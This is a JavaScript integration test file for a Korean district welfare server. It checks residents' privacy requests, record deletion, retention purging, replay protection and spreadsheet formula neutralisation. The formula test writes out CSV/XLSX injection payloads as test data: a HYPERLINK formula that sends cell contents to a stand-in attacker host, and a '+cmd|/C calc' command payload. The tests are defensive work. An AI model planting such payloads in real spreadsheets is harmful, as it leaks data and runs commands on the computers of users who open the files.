// Residents' rights and the district's own hygiene (issue 11, part E) against a real server, on
// SQLite and (DURE_HTTP_DB=postgresql) PostgreSQL: deleting an eligibility profile deletes what
// was derived from it; a resident sees what is held on them (열람), asks for correction, deletion
// or a stop (정정·삭제·처리정지) and an official decides with a reason before the 10-day deadline;
// a resident deletes their own account; `dure privacy purge` enforces the retention periods;
// CSV/XLSX cells cannot carry formulas; a signed passive signal cannot be replayed.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import crypto from 'node:crypto';
import { execFileSync, spawnSync } from 'node:child_process';
import { readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { startServer, dureBin } from '../lib/server.mjs';
import { call, assertProblem, errorFields, loginAs, sessionCookie } from './_client.mjs';

const SECRET = 'sensor-secret-for-privacy-tests-0123456789';
let server, admin, cw;

// One SQL query against the server's database, rows of `|`-separated text.
function sql(query) {
  const out = server.db.startsWith('sqlite:')
    ? execFileSync('sqlite3', [server.db.slice(7), query], { encoding: 'utf8' })
    : execFileSync('psql', [server.db, '-At', '-c', query], { encoding: 'utf8' });
  return out.trim() ? out.trim().split('\n') : [];
}
const count = (query) => Number(sql(query)[0]);

before(async () => {
  // The alert webhook points at a closed port: deliveries stay queued (pending) in the outbox.
  server = await startServer({ env: { DURE_SIGNAL_SECRET: SECRET, DURE_ALERT_WEBHOOK_URL: 'http://127.0.0.1:9/sms',
    DURE_ALERT_WEBHOOK_SECRET: 'webhook-secret-for-privacy-tests-0123', DURE_ALERT_INTERVAL: '3600' } });
  admin = await loginAs(server, 'district_admin');
  cw = await loginAs(server, 'caseworker');
});
after(async () => { if (server) await server.stop(); });

let phoneSeq = 1000;
async function signup(name = '이두레') {
  const phone = `0105557${phoneSeq++}`;
  const password = 'quiet-river-lantern-88';
  const r = await call(server, 'POST', '/api/v1/auth/signup', { body: { phone, password, name } });
  assert.equal(r.status, 201, r.text);
  const session = { cookie: sessionCookie(r.setCookies).split(';')[0], csrf: r.json.csrf_token };
  const me = (await call(server, 'GET', '/api/v1/me', { session })).json;
  return { session, phone, password, id: me.id };
}

const household = { members: [{ relation: 'self', birth_date: '1950-02-01' }],
  residence: { tenure: 'monthly_rent', rent: 200000, region: 'seoul' }, incomes: { public_transfer: 150000 }, assets: {} };

// --- 1. deleting a profile deletes what was derived from it --------------------------------------

test('deleting the eligibility profile deletes results, amounts, messages, deliveries, settings and feedback', async () => {
  const m = await signup();
  const other = await signup('남두레');
  for (const s of [m.session, other.session]) {
    assert.equal((await call(server, 'PUT', '/api/v1/me/eligibility', { session: s, body: { household, alerts_consent: true } })).status, 200);
    const put = await call(server, 'PUT', '/api/v1/me/alerts', { session: s, body: { sms: true, quiet_start: 0, quiet_end: 0 } });
    assert.equal(put.status, 200, put.text);
  }
  const sim = await call(server, 'POST', '/api/v1/simulations', { session: m.session, body: { household, save: true } });
  assert.ok([200, 201].includes(sim.status), sim.text);
  const recs = await call(server, 'GET', '/api/v1/me/recommendations', { session: m.session });
  assert.equal(recs.status, 200, recs.text);
  assert.ok(recs.json.items.length > 0, recs.text.slice(0, 300));
  const fb = await call(server, 'POST', '/api/v1/me/recommendations/feedback', { session: m.session,
    body: { service_id: recs.json.items[0].service_id, action: 'viewed' } });
  assert.equal(fb.status, 200, fb.text);
  assert.equal(count(`SELECT COUNT(*) FROM recommendation_feedback WHERE account_id = ${m.id}`), 1);
  const rs = await call(server, 'POST', '/api/v1/admin/alerts/rescreen', { session: admin, body: { date: '2025-06-01' } });
  assert.equal(rs.status, 200, rs.text);
  const held = (id) => ({
    screening_state: count(`SELECT COUNT(*) FROM screening_state WHERE account_id = ${id}`),
    inbox: count(`SELECT COUNT(*) FROM inbox_messages WHERE account_id = ${id} AND kind = 'eligibility'`),
    outbox: count(`SELECT COUNT(*) FROM outbox WHERE account_id = ${id}`),
    alert_settings: count(`SELECT COUNT(*) FROM alert_settings WHERE account_id = ${id}`),
    profile: count(`SELECT COUNT(*) FROM member_profiles WHERE account_id = ${id}`),
    simulations: count(`SELECT COUNT(*) FROM saved_simulations WHERE account_id = ${id}`),
  });
  const beforeDelete = held(m.id);
  assert.ok(beforeDelete.screening_state > 0 && beforeDelete.inbox > 0 && beforeDelete.outbox > 0 && beforeDelete.alert_settings > 0,
    JSON.stringify(beforeDelete));
  assert.equal((await call(server, 'DELETE', '/api/v1/me/eligibility', { session: m.session })).status, 204);
  assert.deepEqual(held(m.id), { screening_state: 0, inbox: 0, outbox: 0, alert_settings: 0, profile: 0, simulations: 0 });
  assert.equal(count(`SELECT COUNT(*) FROM recommendation_feedback WHERE account_id = ${m.id}`), 0);
  // The other member keeps everything.
  const kept = held(other.id);
  assert.ok(kept.screening_state > 0 && kept.inbox > 0 && kept.profile > 0, JSON.stringify(kept));
  // What the API shows agrees.
  assert.equal((await call(server, 'GET', '/api/v1/me/inbox', { session: m.session })).json.items.length, 0);
  assert.equal((await call(server, 'GET', '/api/v1/me/alerts', { session: m.session })).json.sms, false);
});

// --- 5. signed webhooks reject a replay ----------------------------------------------------------

const signedSignal = (text, ts) => {
  const sig = 'sha256=' + crypto.createHmac('sha256', SECRET).update(`${ts}.${text}`).digest('hex');
  return { body: text, headers: { 'Content-Type': 'application/json', 'X-Signal-Timestamp': String(ts), 'X-Signal-Signature': sig } };
};

test('a signed passive signal is accepted once; the same request replayed is refused, also by another process', async () => {
  const dong = cw.demo.scope_id;
  const p = await call(server, 'POST', '/api/v1/persons', { session: admin,
    body: { name: '신호자', phone: '01055587777', birth_date: '1941-03-04', address: '한빛구 은행로 2', dong_id: dong } });
  assert.equal(p.status, 201, p.text);
  const carer = server.account('caregiver');
  const a = await call(server, 'POST', '/api/v1/checkins/assignments', { session: cw,
    body: { person_id: p.json.id, caregiver_account_id: carer.account_id, cadence: 'weekly' } });
  assert.equal(a.status, 201, a.text);
  const ts = Math.floor(Date.now() / 1000);
  const req = signedSignal(JSON.stringify({ assignment_id: a.json.id, kind: 'no_activity', hours: 2 }), ts);
  const first = await call(server, 'POST', '/api/v1/checkins/signals', req);
  assert.equal(first.status, 200, first.text);
  const replay = assertProblem(await call(server, 'POST', '/api/v1/checkins/signals', req), 409, 'replayed signal');
  assert.match(replay.detail || replay.title, /replay|already/i);
  // A new request (another timestamp) is accepted.
  const next = await call(server, 'POST', '/api/v1/checkins/signals',
    signedSignal(JSON.stringify({ assignment_id: a.json.id, kind: 'no_activity', hours: 2 }), ts + 1));
  assert.equal(next.status, 200, next.text);
  // A second server on the same database refuses the replay too: the seen ids live in the database.
  const second = await startServer({ db: server.db, demo: false, env: { DURE_SIGNAL_SECRET: SECRET, DURE_KEY_FILE: server.keyFile } });
  try {
    assertProblem(await call(second, 'POST', '/api/v1/checkins/signals', req), 409, 'replayed on another process');
  } finally {
    await second.stop();
  }
});

test('a short DURE_SIGNAL_SECRET is refused at start', async () => {
  const r = spawnSync(dureBin, ['serve', '--listen', '127.0.0.1:0', '--web-root', server.dir], {
    env: { ...process.env, DURE_DB: `sqlite:${path.join(server.dir, 'short.db')}`, DURE_KEY_FILE: path.join(server.dir, 'short.key'),
      DURE_SIGNAL_SECRET: 'too-short' }, encoding: 'utf8', timeout: 15000 });
  assert.notEqual(r.status, 0, r.stderr);
  assert.match(r.stderr, /DURE_SIGNAL_SECRET/);
});

// --- 4. no formulas in CSV or XLSX cells ---------------------------------------------------------

test('disclosure CSV and XLSX cells that start with a formula character are neutralised; numbers stay numbers', async () => {
  const manager = await loginAs(server, 'facility_manager');
  const f = (await call(server, 'GET', `/api/v1/facilities?q=${encodeURIComponent('한빛노인종합복지관')}`)).json.items
    .find((x) => x.name === '한빛노인종합복지관');
  const year = Number(new Date(Date.now() + 9 * 3600 * 1000).toISOString().slice(0, 4));
  const evil = '=HYPERLINK("http://evil.example/?"&A1,"상세")';
  const body = { fiscal_year: year, kind: 'settlement', lines: [
    { side: 'revenue', category: '보조금', item: evil, amount: 900 },
    { side: 'revenue', category: '후원금', item: '', amount: 100 },
    { side: 'expenditure', category: '인건비', item: '@SUM(1+1)', amount: 700 },
    { side: 'expenditure', category: '사업비', item: '-1+2', amount: 250 }],
  donations: [{ received_from_type: 'individual', amount: 100, kind: 'cash', used_for: '+cmd|/C calc', used_amount: 100 }] };
  const base = `/api/v1/facilities/${f.id}/disclosures`;
  const d = await call(server, 'POST', base, { session: manager, body });
  assert.equal(d.status, 201, d.text);
  assert.equal((await call(server, 'POST', `${base}/${d.json.id}/submit`, { session: manager, body: {} })).status, 200);
  const ap = await call(server, 'POST', `${base}/${d.json.id}/approve`, { session: admin, body: {} });
  assert.equal(ap.status, 200, ap.text);
  const csv = Buffer.from(await (await fetch(`${server.url}/api/v1/disclosures/${d.json.id}.csv`)).arrayBuffer()).toString('utf8').slice(1);
  const cells = csv.trim().split('\r\n').slice(1).flatMap((row) => row.match(/("([^"]|"")*"|[^,]*)(,|$)/g).map((c) => c.replace(/,$/, '')));
  for (const c of cells) {
    const v = c.startsWith('"') ? c.slice(1, -1).replace(/""/g, '"') : c;
    assert.ok(!/^[=+\-@\t\r]/.test(v) || /^-?\d+$/.test(v), `cell ${JSON.stringify(v)} could run as a formula`);
  }
  assert.ok(csv.includes(`'=HYPERLINK(""http://evil.example/?""&A1,""상세"")`), csv);
  assert.ok(csv.includes("'@SUM(1+1)") && csv.includes("'-1+2") && csv.includes("'+cmd|/C calc"), csv);
  assert.match(csv, /,900,/, 'amounts stay plain numbers');

  const book = Buffer.from(await (await fetch(`${server.url}/api/v1/disclosures/${d.json.id}.xlsx`)).arrayBuffer());
  const file = path.join(server.dir, 'formula.xlsx');
  writeFileSync(file, book);
  const strings = execFileSync('unzip', ['-p', file, 'xl/sharedStrings.xml'], { encoding: 'utf8' });
  // Text cells carry the same guard (libxlsxwriter 1.1.4 has no quote-prefix style): editing the
  // cell in Excel cannot turn it into a formula. Amounts are number cells, never text.
  const texts = [...strings.matchAll(/<t[^>]*>([^<]*)<\/t>/g)].map((m) => m[1]);
  assert.ok(texts.includes(`'=HYPERLINK("http://evil.example/?"&amp;A1,"상세")`), texts.join('\n'));
  assert.ok(texts.includes("'@SUM(1+1)") && texts.includes("'-1+2"), texts.join('\n'));
  for (const t of texts) assert.ok(!/^[=+\-@]/.test(t), `text cell ${t}`);
  const sheet2 = execFileSync('unzip', ['-p', file, 'xl/worksheets/sheet2.xml'], { encoding: 'utf8' });
  assert.ok(sheet2.includes('<v>900</v>'), 'amounts are numbers');
});

// --- 2. residents' rights ------------------------------------------------------------------------

test('열람: a resident sees what is held on them, with the retention of each kind of record', async () => {
  assertProblem(await call(server, 'GET', '/api/v1/me/privacy'), 401);
  const m = await signup('열람인');
  await call(server, 'PUT', '/api/v1/me/eligibility', { session: m.session, body: { household, alerts_consent: true } });
  await call(server, 'PUT', '/api/v1/me/alerts', { session: m.session, body: { sms: true, quiet_start: 22, quiet_end: 7 } });
  const r = await call(server, 'GET', '/api/v1/me/privacy', { session: m.session });
  assert.equal(r.status, 200, r.text);
  assert.equal(r.headers.get('cache-control'), 'no-store');
  const v = r.json;
  assert.equal(v.account.name, '열람인');
  assert.equal(v.account.phone, m.phone);
  assert.deepEqual(v.eligibility_profile.household.members, household.members);
  assert.equal(v.alert_settings.sms, true);
  assert.equal(v.alert_settings.quiet_start, 22);
  assert.ok(v.consents.some((c) => c.kind === 'eligibility_alerts' && c.granted === true), JSON.stringify(v.consents));
  assert.ok(Array.isArray(v.inbox) && Array.isArray(v.simulations) && Array.isArray(v.screening_results));
  assert.deepEqual(v.linked_persons, []);
  assert.deepEqual(v.access_log, []);
  for (const k of ['account', 'eligibility_profile', 'person_record', 'case_records', 'access_log'])
    assert.ok(v.retention.some((x) => x.kind === k && x.basis_ko), `retention of ${k}: ${JSON.stringify(v.retention.map((x) => x.kind))}`);
  // Someone else's view does not show this resident.
  const o = await signup('타인');
  assert.ok(!(await call(server, 'GET', '/api/v1/me/privacy', { session: o.session })).text.includes('열람인'));
});

test('requests: filed with a 10-day deadline, decided by an official with a reason, the resident told in the inbox', async () => {
  const m = await signup('요구인');
  const bad = assertProblem(await call(server, 'POST', '/api/v1/me/privacy/requests', { session: m.session,
    body: { kind: 'erase_all', record: 'nothing', details: 'x'.repeat(3000), extra: 1 } }), 422);
  assert.deepEqual(errorFields(bad).sort(), ['details', 'extra', 'kind', 'record']);
  // Deletion of records the law requires to be kept is accepted as a request but says so.
  const del = await call(server, 'POST', '/api/v1/me/privacy/requests', { session: m.session,
    body: { kind: 'deletion', record: 'case_records', details: '상담 기록을 지워 주세요' } });
  assert.equal(del.status, 201, del.text);
  assert.equal(del.json.status, 'received');
  assert.equal(del.json.law.deletable, false, JSON.stringify(del.json.law));
  assert.ok(del.json.law.basis_ko.length > 5);
  const kst = (t) => new Date((t + 9 * 3600) * 1000).toISOString().slice(0, 10);
  const plus10 = new Date(Date.parse(kst(del.json.received_at)) + 10 * 86400000).toISOString().slice(0, 10);
  assert.equal(del.json.due_date, plus10, '10 days after receipt (PIPA enforcement decree arts. 41, 43, 44)');
  const acc = await call(server, 'POST', '/api/v1/me/privacy/requests', { session: m.session,
    body: { kind: 'access', record: 'person_record', details: '구청에 등록된 제 기록과 열람한 사람을 알고 싶어요' } });
  assert.equal(acc.status, 201, acc.text);
  const mine = (await call(server, 'GET', '/api/v1/me/privacy/requests', { session: m.session })).json.items;
  assert.deepEqual(mine.map((x) => x.id).sort(), [del.json.id, acc.json.id].sort());

  // Staff queue: district_admin only, with deadline and status, no request bodies in the list.
  assertProblem(await call(server, 'GET', '/api/v1/admin/privacy/requests', { session: cw }), 403);
  assertProblem(await call(server, 'GET', '/api/v1/admin/privacy/requests', { session: m.session }), 403);
  const q = await call(server, 'GET', '/api/v1/admin/privacy/requests', { session: admin });
  assert.equal(q.status, 200, q.text);
  const row = q.json.items.find((x) => x.id === del.json.id);
  assert.equal(row.due_date, plus10);
  assert.equal(row.status, 'received');
  assert.equal(row.overdue, false);
  assert.ok(!q.text.includes('상담 기록을 지워'), 'details only on the request page');
  const one = await call(server, 'GET', `/api/v1/admin/privacy/requests/${del.json.id}`, { session: admin });
  assert.equal(one.status, 200, one.text);
  assert.equal(one.json.details, '상담 기록을 지워 주세요');
  assert.equal(one.json.account.name, '요구인');

  // A decision needs a written reason; the resident is told in 알림함.
  const noReason = assertProblem(await call(server, 'POST', `/api/v1/admin/privacy/requests/${del.json.id}/decision`,
    { session: admin, body: { decision: 'refused' } }), 422);
  assert.deepEqual(errorFields(noReason), ['reason']);
  const dec = await call(server, 'POST', `/api/v1/admin/privacy/requests/${del.json.id}/decision`, { session: admin,
    body: { decision: 'refused', reason: '사례관리 기록은 법령에 따라 보존해야 하여 삭제할 수 없습니다' } });
  assert.equal(dec.status, 200, dec.text);
  assert.equal(dec.json.status, 'refused');
  assertProblem(await call(server, 'POST', `/api/v1/admin/privacy/requests/${del.json.id}/decision`, { session: admin,
    body: { decision: 'granted', reason: '다시 결정' } }), 409, 'decided once');
  const inbox = (await call(server, 'GET', '/api/v1/me/inbox', { session: m.session })).json.items;
  assert.ok(inbox.some((x) => x.kind === 'privacy' && x.body.includes('사례관리 기록은 법령에 따라')), JSON.stringify(inbox));

  // 열람 of staff-held records: the official verifies who asks and links the registered person;
  // the resident then sees that record and who on the staff read it.
  const p = await call(server, 'POST', '/api/v1/persons', { session: admin,
    body: { name: '요구인', phone: m.phone, birth_date: '1950-05-06', address: '한빛구 느티로 3', dong_id: cw.demo.scope_id } });
  assert.equal(p.status, 201, p.text);
  const read = await call(server, 'GET', `/api/v1/persons/${p.json.id}`, { session: admin, headers: { 'X-Access-Reason': 'benefit counselling prep' } });
  assert.equal(read.status, 200, read.text);
  const link = await call(server, 'POST', `/api/v1/admin/privacy/requests/${acc.json.id}/decision`, { session: admin,
    body: { decision: 'granted', reason: '신분증으로 본인 확인 후 등록 기록을 연결했습니다', person_id: p.json.id } });
  assert.equal(link.status, 200, link.text);
  const v = (await call(server, 'GET', '/api/v1/me/privacy', { session: m.session })).json;
  assert.equal(v.linked_persons.length, 1);
  assert.equal(v.linked_persons[0].name, '요구인');
  assert.ok(v.access_log.some((e) => e.reason === 'benefit counselling prep' && e.actor_role && e.at > 1_700_000_000), JSON.stringify(v.access_log));
  assert.ok(v.requests.find((x) => x.id === del.json.id).decision_reason.includes('법령'));
});

test('a resident deletes their own account; what the law requires stays, the rest is gone', async () => {
  const m = await signup('탈퇴인');
  await call(server, 'PUT', '/api/v1/me/eligibility', { session: m.session, body: { household, alerts_consent: true } });
  const req = await call(server, 'POST', '/api/v1/me/privacy/requests', { session: m.session,
    body: { kind: 'correction', record: 'account', details: '이름 수정' } });
  assert.equal(req.status, 201);
  const wrong = assertProblem(await call(server, 'DELETE', '/api/v1/me', { session: m.session, body: { password: 'not-my-password-1' } }), 422);
  assert.deepEqual(errorFields(wrong), ['password']);
  assertProblem(await call(server, 'DELETE', '/api/v1/me', { session: cw, body: { password: cw.demo.password } }), 409, 'staff accounts are closed by the district');
  assert.equal((await call(server, 'DELETE', '/api/v1/me', { session: m.session, body: { password: m.password } })).status, 204);
  assertProblem(await call(server, 'GET', '/api/v1/me', { session: m.session }), 401);
  assertProblem(await call(server, 'POST', '/api/v1/auth/login', { body: { login: m.phone, password: m.password } }), 401);
  assert.equal(count(`SELECT COUNT(*) FROM member_profiles WHERE account_id = ${m.id}`), 0);
  assert.equal(count(`SELECT COUNT(*) FROM sessions WHERE account_id = ${m.id}`), 0);
  const row = sql(`SELECT COALESCE(phone_bidx, ''), COALESCE(email_bidx, ''), disabled FROM accounts WHERE id = ${m.id}`)[0];
  assert.equal(row, '||1');
  // The request record stays (proof the request was handled), and the number can sign up again.
  assert.equal(count(`SELECT COUNT(*) FROM privacy_requests WHERE account_id = ${m.id}`), 1);
  const again = await call(server, 'POST', '/api/v1/auth/signup', { body: { phone: m.phone, password: 'fresh-start-lantern-99', name: '새사람' } });
  assert.equal(again.status, 201, again.text);
});

// --- 3. retention -------------------------------------------------------------------------------

test('`dure privacy purge` prints counts per kind, --dry-run changes nothing, a later clock purges more', async () => {
  const run = (...args) => spawnSync(dureBin, ['privacy', 'purge', ...args], { env: server.env, encoding: 'utf8', timeout: 30000 });
  const sessions = () => count('SELECT COUNT(*) FROM sessions');
  const before = sessions();
  assert.ok(before > 0);
  const far = Math.floor(Date.now() / 1000) + 400 * 86400;
  const dry = run(`--now=${far}`, '--dry-run');
  assert.equal(dry.status, 0, dry.stderr);
  assert.match(dry.stdout, /^sessions\s+\d+/m);
  assert.match(dry.stdout, /^access_log\s+kept/m);
  assert.equal(Number(/^sessions\s+(\d+)/m.exec(dry.stdout)[1]), before);
  assert.equal(sessions(), before, 'dry run deletes nothing');
  const now = run();
  assert.equal(now.status, 0, now.stderr);
  assert.equal(sessions(), before, 'live sessions are kept today');
  const later = run(`--now=${far}`);
  assert.equal(later.status, 0, later.stderr);
  assert.equal(sessions(), 0);
  assert.ok(count('SELECT COUNT(*) FROM access_log') > 0, 'the access log is never purged before its period');
  const bad = run('--now=yesterday');
  assert.notEqual(bad.status, 0);
  assert.match(bad.stderr, /--now/);
});

// Last: the export runs for seconds, long enough for the server to close idle keep-alive sockets.
test('the HSDS CSV export neutralises formula characters too', async () => {
  const svc = (await call(server, 'GET', '/api/v1/services?page_size=1')).json.items[0];
  const full = (await call(server, 'GET', `/api/v1/services/${svc.id}`)).json;
  const fresh = await loginAs(server, 'district_admin'); // the purge test above ended every session
  const r = await call(server, 'PUT', `/api/v1/services/${svc.id}`, { session: fresh,
    body: { name: '=1+2 서비스', version: full.version, note: 'formula test' } });
  assert.equal(r.status, 200, r.text);
  const out = path.join(server.dir, 'hsds-out');
  execFileSync(dureBin, ['export', 'hsds', out], { env: server.env, stdio: ['ignore', 'ignore', 'inherit'] });
  const text = readFileSync(path.join(out, 'services.csv'), 'utf8');
  assert.ok(!/(^|,)=1\+2/m.test(text), 'no raw formula cell');
  assert.ok(text.includes("'=1+2 서비스"), text.slice(0, 300));
});

// --- 정정·삭제 granted: the registered person record itself changes -------------------------------

// A resident whose registered person record is linked to their account (an access request the
// official granted after checking identity).
async function linkedResident(name, extra = {}) {
  // A later test's purge with a later clock ends every session: log the staff in again.
  if ((await call(server, 'GET', '/api/v1/me', { session: admin })).status !== 200) {
    admin = await loginAs(server, 'district_admin');
    cw = await loginAs(server, 'caseworker');
  }
  const m = await signup(name);
  const p = await call(server, 'POST', '/api/v1/persons', { session: admin,
    body: { name, phone: m.phone, birth_date: '1948-03-04', address: '한빛구 느티로 7', dong_id: cw.demo.scope_id, ...extra } });
  assert.equal(p.status, 201, p.text);
  const acc = await call(server, 'POST', '/api/v1/me/privacy/requests', { session: m.session, body: { kind: 'access', record: 'person_record' } });
  const link = await call(server, 'POST', `/api/v1/admin/privacy/requests/${acc.json.id}/decision`, { session: admin,
    body: { decision: 'granted', reason: '신분증으로 본인 확인 후 연결했습니다', person_id: p.json.id } });
  assert.equal(link.status, 200, link.text);
  return { ...m, person: p.json.id };
}
const fileRequest = async (m, kind, details) => {
  const r = await call(server, 'POST', '/api/v1/me/privacy/requests', { session: m.session, body: { kind, record: 'person_record', details } });
  assert.equal(r.status, 201, r.text);
  return r.json.id;
};
const decide = (id, body) => call(server, 'POST', `/api/v1/admin/privacy/requests/${id}/decision`, { session: admin, body });
const readPerson = (id) => call(server, 'GET', `/api/v1/persons/${id}`, { session: admin, headers: { 'X-Access-Reason': 'privacy request check' } });
const lookup = (phone) => call(server, 'POST', '/api/v1/persons/lookup', { session: admin, headers: { 'X-Access-Reason': 'privacy request check' }, body: { phone } });

test('정정 granted: the corrected fields are written to the person record, the phone index follows, all logged', async () => {
  const m = await linkedResident('정정전');
  const stranger = await linkedResident('남의기록');
  const id = await fileRequest(m, 'correction', '이름과 전화번호, 주소가 바뀌었습니다');
  // The corrected values are checked like a registration; the RRN is not corrected here.
  const bad = assertProblem(await decide(id, { decision: 'granted', reason: '주민등록표로 확인했습니다', person_id: m.person,
    correction: { phone: '12', birth_date: '1948-13-40', rrn: '480304-2000000' } }), 422);
  assert.deepEqual(errorFields(bad).sort(), ['correction.birth_date', 'correction.phone', 'correction.rrn']);
  assertProblem(await decide(id, { decision: 'granted', reason: '주민등록표로 확인했습니다', person_id: m.person }), 422, 'granting a correction names what is corrected');
  const notTheirs = assertProblem(await decide(id, { decision: 'granted', reason: '주민등록표로 확인했습니다',
    person_id: stranger.person, correction: { name: '바꿈' } }), 422, 'only a record linked to the requester');
  assert.deepEqual(errorFields(notTheirs), ['person_id']);
  assert.equal((await readPerson(stranger.person)).json.name, '남의기록', 'nothing half-written');

  const newPhone = `0105558${phoneSeq++}`;
  const ok = await decide(id, { decision: 'granted', reason: '주민등록표로 확인하고 정정했습니다', person_id: m.person,
    correction: { name: '정정후', phone: newPhone, address: '한빛구 은행로 9', birth_date: '1948-03-05' } });
  assert.equal(ok.status, 200, ok.text);
  const after = (await readPerson(m.person)).json;
  assert.equal(after.name, '정정후');
  assert.equal(after.phone, newPhone);
  assert.equal(after.address, '한빛구 은행로 9');
  assert.equal(after.birth_date, '1948-03-05');
  assert.ok((await lookup(newPhone)).json.items.some((x) => x.id === m.person), 'found by the new phone');
  assert.ok(!(await lookup(m.phone)).json.items.some((x) => x.id === m.person), 'no longer by the old one');
  const enc = sql(`SELECT name_enc, address_enc FROM persons WHERE id = ${m.person}`)[0];
  assert.ok(!enc.includes('정정후') && !enc.includes('은행로'), 'encrypted at rest');
  const log = sql(`SELECT action || ':' || fields || ':' || reason FROM access_log WHERE subject_kind = 'person' AND subject_id = ${m.person} AND action = 'correct'`);
  assert.equal(log.length, 1, JSON.stringify(log));
  assert.ok(log[0].includes('name,phone,birth_date,address') && log[0].includes(`#${id}`), log[0]);
  const v = (await call(server, 'GET', '/api/v1/me/privacy', { session: m.session })).json;
  assert.equal(v.linked_persons[0].name, '정정후', 'the resident sees the corrected record');
});

test('삭제 granted: the person record is erased; a record a check-in assignment needs blocks it with the reason', async () => {
  const kept = await linkedResident('안부대상');
  const carer = server.account('caregiver');
  const a = await call(server, 'POST', '/api/v1/checkins/assignments', { session: cw,
    body: { person_id: kept.person, caregiver_account_id: carer.account_id, cadence: 'weekly' } });
  assert.equal(a.status, 201, a.text);
  const id1 = await fileRequest(kept, 'deletion', '제 기록을 지워 주세요');
  const blocked = assertProblem(await decide(id1, { decision: 'granted', reason: '요구에 따라 삭제합니다', person_id: kept.person }), 409);
  assert.match(blocked.detail, /안부 확인/, blocked.detail);
  assert.equal((await readPerson(kept.person)).json.name, '안부대상', 'not erased');
  assert.equal((await call(server, 'GET', '/api/v1/me/privacy/requests', { session: kept.session })).json.items.find((x) => x.id === id1).status, 'received');

  const m = await linkedResident('삭제대상', { rrn: '480304-2123456' });
  const id2 = await fileRequest(m, 'deletion', '구청에 등록된 제 기록을 지워 주세요');
  const ok = await decide(id2, { decision: 'granted', reason: '보존 의무가 없어 삭제했습니다', person_id: m.person });
  assert.equal(ok.status, 200, ok.text);
  const row = sql(`SELECT COALESCE(phone_enc,'-') || '|' || COALESCE(phone_bidx,'-') || '|' || COALESCE(birth_date_enc,'-') || '|' || COALESCE(address_enc,'-') || '|' || COALESCE(rrn_enc,'-') FROM persons WHERE id = ${m.person}`)[0];
  assert.equal(row, '-|-|-|-|-', 'every personal field but the placeholder name is gone');
  const p = (await readPerson(m.person)).json;
  assert.equal(p.name, '(삭제됨)');
  assert.ok(!(await lookup(m.phone)).json.items.some((x) => x.id === m.person));
  const log = sql(`SELECT action FROM access_log WHERE subject_kind = 'person' AND subject_id = ${m.person} AND action = 'erase'`);
  assert.equal(log.length, 1);
  const v = (await call(server, 'GET', '/api/v1/me/privacy', { session: m.session })).json;
  assert.equal(v.linked_persons[0].name, '(삭제됨)', 'the resident sees that it was erased');
});

test('열람 of a reported household: the privacy officer links it, and the resident sees who read it and its case, when and why', async () => {
  const officer = await loginAs(server, 'privacy_officer');
  const m = await signup('가구열람');
  // A caseworker takes a report about the resident's household and opens a case for it.
  const dong = cw.demo.scope_id;
  const h = await call(server, 'POST', '/api/v1/outreach/intake', { session: cw, body: { channel: 'counter', dong_id: dong, address: `열람로 ${phoneSeq} 3호`, concern: '월세가 밀렸어요', subject_phone: m.phone } });
  assert.equal(h.status, 201, h.text);
  const hid = h.json.household_id;
  const opened = await call(server, 'GET', `/api/v1/outreach/households/${hid}`, { session: cw, headers: { 'X-Access-Reason': 'household visit plan' } });
  assert.equal(opened.status, 200, opened.text);
  const kase = await call(server, 'POST', '/api/v1/cases', { session: cw, body: { household_id: hid } });
  assert.equal(kase.status, 201, kase.text);
  const read = await call(server, 'GET', `/api/v1/cases/${kase.json.id}`, { session: cw, headers: { 'X-Access-Reason': 'case review before visit' } });
  assert.equal(read.status, 200, read.text);
  // Nothing is shown before an official decides: a phone number alone never links a household.
  const before = (await call(server, 'GET', '/api/v1/me/privacy', { session: m.session })).json;
  assert.deepEqual(before.linked_households, []);
  assert.ok(!JSON.stringify(before.access_log).includes('household visit plan'), 'no household reads before the link');

  const acc = await call(server, 'POST', '/api/v1/me/privacy/requests', { session: m.session, body: { kind: 'access', record: 'person_record', details: '제 상담 기록을 누가 봤는지 알고 싶어요' } });
  assert.equal(acc.status, 201, acc.text);
  // The privacy officer decides (the caseworker may not); a household of no district of theirs is refused.
  assertProblem(await call(server, 'POST', `/api/v1/admin/privacy/requests/${acc.json.id}/decision`, { session: cw, body: { decision: 'granted', reason: '본인 확인 완료', household_id: hid } }), 403, 'a caseworker does not decide privacy requests');
  const bad = assertProblem(await call(server, 'POST', `/api/v1/admin/privacy/requests/${acc.json.id}/decision`, { session: officer, body: { decision: 'granted', reason: '본인 확인 완료', household_id: 987654321 } }), 422, 'unknown household');
  assert.deepEqual(errorFields(bad), ['household_id']);
  const ok = await call(server, 'POST', `/api/v1/admin/privacy/requests/${acc.json.id}/decision`, { session: officer, body: { decision: 'granted', reason: '신분증으로 본인 확인 후 연결했습니다', household_id: hid } });
  assert.equal(ok.status, 200, ok.text);

  const after = (await call(server, 'GET', '/api/v1/me/privacy', { session: m.session })).json;
  assert.deepEqual(after.linked_households, [hid]);
  const rows = after.access_log;
  const hRead = rows.find((r) => r.record === 'household' && r.reason === 'household visit plan');
  const cRead = rows.find((r) => r.record === 'case' && r.reason === 'case review before visit');
  assert.ok(hRead, `the household read is shown: ${JSON.stringify(rows)}`);
  assert.ok(cRead, `the case read is shown: ${JSON.stringify(rows)}`);
  assert.equal(cRead.actor_role, 'caseworker');
  assert.ok(Math.abs(cRead.at - Date.now() / 1000) < 600, `the real time of the read: ${cRead.at}`);
  assert.ok(!JSON.stringify(rows).includes(cw.demo.login), 'the official is named by role and place, not by login');
  // A second request cannot attach a household to a refused or non-access decision.
  const del = await call(server, 'POST', '/api/v1/me/privacy/requests', { session: m.session, body: { kind: 'deletion', record: 'person_record', details: '삭제해 주세요' } });
  const na = assertProblem(await call(server, 'POST', `/api/v1/admin/privacy/requests/${del.json.id}/decision`, { session: officer, body: { decision: 'refused', reason: '보존 의무가 있습니다', household_id: hid } }), 422, 'household_id only with a granted access request');
  assert.deepEqual(errorFields(na), ['household_id']);
});
